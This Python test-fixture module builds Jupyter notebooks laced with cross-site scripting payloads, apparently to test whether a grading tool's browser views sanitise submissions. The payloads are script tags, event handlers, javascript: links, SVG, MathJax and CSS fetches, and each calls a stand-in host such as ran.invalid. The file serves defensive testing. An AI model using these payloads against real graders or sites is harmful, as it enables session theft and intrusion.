"""Attacks on the browser of whoever opens a submission, as data.

Each is harmless: a script of a learner's asks `ran.invalid` for the attack's name, a style sheet, picture or
form asks `asked.invalid`. No such server exists, and the browser tests let no request out.
"""

import base64
import copy
import json

import nbformat

RAN, ASKED = "http://ran.invalid/", "http://asked.invalid/"
JS = f"fetch('{RAN}@')"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{JS}</script></svg>'
PAGE = f"<script>{JS}</script>"


def packed(text):
    """A text in base64."""
    return base64.b64encode(text.encode()).decode()


MARKUP = {
    "script": f"<script>{JS}</script>",
    "script in capitals": f"<SCRIPT\n>{JS}</SCRIPT\n>",
    "script of another server": f"<script src={RAN}@></script>",
    "script in a script": f"<scr<script>ipt>{JS}</scr</script>ipt>",
    "script after a comment": f"<!--><script>{JS}</script>-->",
    "script after CDATA": f"<![CDATA[><script>{JS}</script>]]>",
    "script after what ends a cell": f"</textarea></pre></style></div><script>{JS}</script>",
    "picture that is none": f'<img src=x onerror="{JS}">',
    "picture on several lines": f'<img\nsrc=x\nonerror="{JS}"\n>',
    "picture with slashes": f'<img/src=x/onerror="{JS}"/>',
    "SVG that loads": f'<svg onload="{JS}"></svg>',
    "SVG with a script": SVG,
    "SVG that animates": f'<svg><animate onbegin="{JS}" attributeName=x dur=1s></svg>',
    "MathML that holds HTML": f'<math><mtext></mtext><mglyph><img src=x onerror="{JS}"></math>',
    "frame with a page": f'<iframe srcdoc="<script>{JS}</script>"></iframe>',
    "frame with a script": f'<iframe src="javascript:{JS}"></iframe>',
    "object with a page": f'<object data="data:text/html;base64,{packed(PAGE)}"></object>',
    "embedded page": f'<embed src="data:text/html;base64,{packed(PAGE)}">',
    "details that unfold": f'<details open ontoggle="{JS}"><summary>x</summary></details>',
    "field that takes the focus": f'<input autofocus onfocus="{JS}">',
    "animation": f'<style>@keyframes k{{}}</style><p style="animation:k 1s" onanimationstart="{JS}">x',
    "link to a script": f'<a href="javascript:{JS}">x</a>',
    "style sheet of another server": f'<style>@import "{ASKED}@";</style>',
    "style that fetches": f'<p style="background:url({ASKED}@)">x</p>',
    "linked style sheet": f'<link rel="stylesheet" href="{ASKED}@">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={ASKED}@">',
    "base": f'<base href="{ASKED}@/">',
    "form": f'<form action="{ASKED}@"><input type="submit"></form>',
    "picture of another server": f'<img src="{ASKED}@">',
    "command of JupyterLab": '<button data-commandlinker-command="docmanager:new-untitled" '
    'data-commandlinker-args="{&quot;path&quot;: &quot;@&quot;}">x</button>',
}
"""HTML, wherever it may stand."""

PROSE = {
    "link": f"[x](javascript:{JS})",
    "link in two lines": f"[x]\n(javascript:{JS})",
    "link with a picture": f"[![x]({ASKED}@)](javascript:{JS})",
    "link by name": f"[x][one]\n\n[one]: javascript:{JS}",
    "link by its name alone": f"[one]\n\n[one]: javascript:{JS}",
    "address in brackets": f"<javascript:{JS}>",
    "address": f"javascript:{JS}",
    "address of Formgrader": "http://localhost:8888/formgrader/manage_students/%22-fetch('@')-%22",
    "address of Formgrader in brackets": "<http://localhost:8888/formgrader/manage_students/@>",
    "picture": f"![x]({ASKED}@)",
    "picture by name": f"![x][one]\n\n[one]: {ASKED}@",
    "file beside": "[x](page.html?@)",
    "formula with HTML": f'$<img src=x onerror="{JS}">$',
    "formula in entities": f"$&lt;script&gt;{JS}&lt;/script&gt;$",
    "formula with a link": f"$\\href{{javascript:{JS}}}{{x}}$",
    "formula with a link to a file beside": "$$\\href{page.html?@}{x}$$",
    "formula whose signs are entities": "&#36;&#92;href{page.html?@}{x}&#36;",
    "formula with a style": f"$\\style{{background:url({ASKED}@)}}{{x}}$",
    "formula with a class and an id": "$\\class{@}{x}\\cssId{@}{y}$",
    "formula as an environment": f"\\begin{{equation}}\\href{{javascript:{JS}}}{{x}}\\end{{equation}}",
    "formula in brackets": f"\\\\(\\href{{javascript:{JS}}}{{x}}\\\\)",
    "heading": f'# <script>{JS}</script> "onload="{JS}',
    "table": f"| a |\n|---|\n| <script>{JS}</script> |",
    "code": f"```\n</code></pre><script>{JS}</script>\n```",
    "code in a language": f'```html"><script>{JS}</script>\nx\n```',
    "code in a line": f"`<script>{JS}</script>`",
    "quote": f'> <img src=x onerror="{JS}">',
    "entities": f"&lt;script&gt;{JS}&lt;/script&gt; &#60;script&#62;{JS}&#60;/script&#62;",
    "attachment": "![x](attachment:a.svg) ![x](attachment:b)",
}
"""What Markdown makes HTML of."""

VEGA = {"type": "symbol", "encode": {"enter": {"href": {"value": f"javascript:{JS}"}}}}
OUTPUTS = {
    "HTML": {"text/html": PAGE, "text/plain": "x"},
    "HTML in a frame": {"text/html": PAGE},
    "SVG": {"image/svg+xml": SVG},
    "script": {"application/javascript": JS},
    "script of old": {"text/javascript": JS},
    "LaTeX": {"text/latex": f"$\\href{{javascript:{JS}}}{{x}}$ {PAGE}"},
    "Markdown": {"text/markdown": f"{PAGE} [x](javascript:{JS})"},
    "text": {"text/plain": PAGE},
    "picture": {"image/png": f'x"/>{PAGE}', "image/jpeg": f"'>{PAGE}"},
    "kind": {f"image/png'>{PAGE}": "AAAA"},
    "widget": {
        "application/vnd.jupyter.widget-view+json": {"model_id": "a", "version_major": 2, "version_minor": 0}
    },
    "Vega": {"application/vnd.vega.v5+json": {"width": 9, "height": 9, "marks": [VEGA]}},
    "GeoJSON": {"application/geo+json": {"type": "Point", "url": f"{ASKED}@"}},
    "PDF": {"application/pdf": packed(PAGE)},
    "Plotly": {"application/vnd.plotly.v1+json": {"data": [], "layout": {"title": PAGE}}},
}
"""By kind, what a cell shows; in the file, or made while it is graded."""


ANSWERS = {
    "type": "Odd = type({!r}, (), {{}})\ndef softmax(x, axis=-1): return Odd()",
    "error": "def attention(*_): raise ValueError({!r})",
    "message of a probe": "def masked_softmax(*_):\n    from helpers.beside.probes.base import ProbeError\n"
    "    raise ProbeError({!r}, None, {!r})",
    "no function": "softmax_backward = {!r}",
}
"""What a check's panel says of an answer; the text is `IN_PANEL`."""

IN_PANEL = f'<img src=x onerror="{JS}">$\\href{{page.html?@}}{{x}}$ \\(\\href{{page.html?@}}{{x}}\\)'
NAMES = {"first_name": f'<img src=x onerror="{JS}">', "last_name": f"<script>{JS}</script>"}
"""A student's own, as an LMS may have it."""

FETCH = f"fetch('{RAN}address'.replaceAll('_',String.fromCharCode(47)))".replace("/", "_")
ADDRESSES = (f"<img src=x onerror={FETCH}>", f'"-{FETCH}-"')
"""Ids of students that nobody has, in an address of Formgrader's."""


def slug(place, name):
    """What in a page is there by an attack alone."""
    return f"{place}-{name}-it".replace(" ", "-").replace("/", "-")


def named(made, place, name):
    """The same with the attack's own word in place of each @."""
    return json.loads(json.dumps(made).replace("@", slug(place, name)))


def _prose(made):
    for name, text in {**MARKUP, **PROSE}.items():
        cell = nbformat.v4.new_markdown_cell(named(text, "text", name))
        svg = packed(named(SVG, "text", "attachment"))
        cell.attachments = {"a.svg": {"image/svg+xml": svg}, "b": {f'image/png"onerror="{JS}': "x"}}
        made.cells.append(cell)
    for kind in ("", "text/html", "text/markdown"):
        for name, text in MARKUP.items():
            about = {"raw_mimetype": kind, "format": kind}
            made.cells.append(nbformat.v4.new_raw_cell(named(text, f"raw {kind}", name), metadata=about))


def _outputs(made):
    for name, data in {
        **OUTPUTS,
        **{f"html {one}": {"text/html": text} for one, text in MARKUP.items()},
    }.items():
        stored = nbformat.v4.new_output("display_data", data=named(data, "stored", name))
        made.cells.append(nbformat.v4.new_code_cell("pass", outputs=[stored]))
        data = named(data, "made", name)
        shown = f"display({data!r}, raw=True, metadata={{'isolated': True}})"
        made.cells.append(nbformat.v4.new_code_cell(f"from IPython.display import display\n{shown}"))
        text = "".join(data.values()) if all(isinstance(one, str) for one in data.values()) else "x"
        source = f"print({text!r})\nraise type({text!r}, (Exception,), {{}})({text!r})  # {text!r}"
        made.cells.append(nbformat.v4.new_code_cell(source))


def _answers(made):
    for cell in made.cells:
        name = cell.metadata.get("nbgrader", {}).get("grade_id")
        cell.source = (ANSWERS_BY_CELL | WRONG_IN_NUMBERS).get(name) or cell.source


ANSWERS_BY_CELL = {
    exercise: source.format(*[named(IN_PANEL, "answer", name)] * 2)
    for exercise, (name, source) in zip(
        ("softmax", "attention", "masked_softmax", "softmax_backward"),
        ANSWERS.items(),
        strict=True,
    )
}
WRONG_IN_NUMBERS = {"softmax_with_temperature": "def softmax_with_temperature(x, *_):\n    return x * 0"}
"""No attack, but an answer whose panel has tables."""


def _about(made):
    """Everything that a file says of itself and its cells."""
    page = named(PAGE, "about", "notebook")
    widget = {
        "model_name": "HTMLModel",
        "model_module": "@jupyter-widgets/controls",
        "state": {"value": page},
    }
    state = {"version_major": 2, "version_minor": 0, "state": {"a": widget}}
    made.metadata.update(
        title=page,
        authors=[{"name": page}],
        kernelspec={"name": "python3", "display_name": page, "language": page},
        language_info={"name": page, "pygments_lexer": page, "version": page, "codemirror_mode": page},
        widgets={"application/vnd.jupyter.widget-state+json": state},
    )
    for number, cell in enumerate(made.cells):
        page = named(PAGE, "about", "cell")
        cell.metadata.update(tags=[page, '" onload="x'], name=page, magics_language=page)
        cell["id"] = f'{number}">{named(PAGE, "about", "id")}'


NOTEBOOKS = {"prose": _prose, "outputs": _outputs, "answers": _answers, "about": _about}
"""Who hands in what; each changes the released notebook."""


def notebook(released, change):
    """A notebook to hand in, as its file."""
    made = copy.deepcopy(released)
    change(made)
    return json.dumps(made).encode()


def words():
    """Each attack by its own word."""
    return [
        *(slug("text", name) for name in (*MARKUP, *PROSE)),
        *(slug(f"raw {kind}", name) for kind in ("", "text/html", "text/markdown") for name in MARKUP),
        *(slug(place, name) for place in ("stored", "made") for name in OUTPUTS),
        *(slug(place, f"html {name}") for place in ("stored", "made") for name in MARKUP),
        *(slug("answer", name) for name in ANSWERS),
        *(slug("about", name) for name in ("notebook", "cell", "id")),
        *(slug("student", name) for name in NAMES),
    ]
